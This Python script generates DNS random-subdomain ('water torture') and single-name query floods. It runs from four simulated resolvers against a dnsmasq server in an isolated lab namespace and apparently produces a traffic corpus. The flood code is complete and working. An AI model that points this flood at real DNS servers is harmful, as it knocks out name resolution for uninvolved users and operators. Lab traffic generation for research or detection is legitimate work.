"""DNS water torture (random-subdomain flood) through the four resolvers, for the corpus.

Runs in the NET namespace (see lib.sh). The resolvers of bg.py (198.18.17.1-4) forward queries
for <12 random letters and digits>.example.test, qtype A, to the authoritative server (--server,
dnsmasq on SRV, which answers NXDOMAIN for names it does not know), as a resolver does: random
query id, no recursion desired, an EDNS0 OPT record (1232 bytes), a random source port per query
(a pool of 32 sockets per resolver). --rate queries/s for --seconds, never more than --count,
paced by the clock; the answers are read and counted. Waits until --start-at (epoch s) when
given. Prints the epoch of the first and last query, the queries sent (and refused by the kernel) and
the answers by rcode. With --name every query asks for that one name instead (a query flood of
a name dnsmasq knows: each is answered NOERROR).
"""

import argparse
import collections
import random
import socket
import string
import struct
import time

RESOLVERS = [f"198.18.17.{i}" for i in range(1, 5)]
LABEL = string.ascii_lowercase + string.digits
OPT = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 0)  # root, OPT, 1232 bytes, no flags, no data


def query(name: str, qid: int) -> bytes:
    q = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0000, 1, 0, 0, 1) + q + struct.pack("!HH", 1, 1) + OPT


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", required=True)
    ap.add_argument("--zone", default="example.test")
    ap.add_argument("--name", help="ask for this one name every time (a DNS query flood)")
    ap.add_argument("--rate", type=float, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--start-at", type=float, default=0)
    ap.add_argument("--seed", type=int, default=53)
    a = ap.parse_args()
    rnd = random.Random(a.seed)
    socks = []
    for r in RESOLVERS:
        for _ in range(32):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((r, 0))
            s.setblocking(False)
            socks.append(s)
    rcodes: collections.Counter = collections.Counter()

    def drain() -> None:
        for s in socks:
            try:
                while True:
                    data = s.recv(2048)
                    if len(data) >= 4:
                        rcodes[data[3] & 0x0F] += 1
            except OSError:
                pass

    n = min(a.count, int(a.rate * a.seconds))
    while time.time() < a.start_at:
        time.sleep(min(0.01, a.start_at - time.time()))
    first = time.time()
    t0 = time.monotonic()
    sent = failed = 0
    while sent < n:
        el = time.monotonic() - t0
        if el >= a.seconds:
            break
        due = min(n, int(el * a.rate) + 1)
        while sent < due:
            name = a.name or "".join(rnd.choice(LABEL) for _ in range(12)) + "." + a.zone
            try:
                rnd.choice(socks).sendto(query(name, rnd.getrandbits(16)), (a.server, 53))
            except OSError:
                failed += 1
            sent += 1
        drain()
        time.sleep(0.001)
    last = time.time()
    end = time.monotonic() + 1
    while time.monotonic() < end:
        drain()
        time.sleep(0.01)
    names = {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}
    answers = " ".join(f"{names.get(k, k)}={v}" for k, v in sorted(rcodes.items()))
    print(f"first {first:.6f} last {last:.6f} sent {sent - failed} failed {failed} answers {answers}",
          flush=True)


if __name__ == "__main__":
    main()
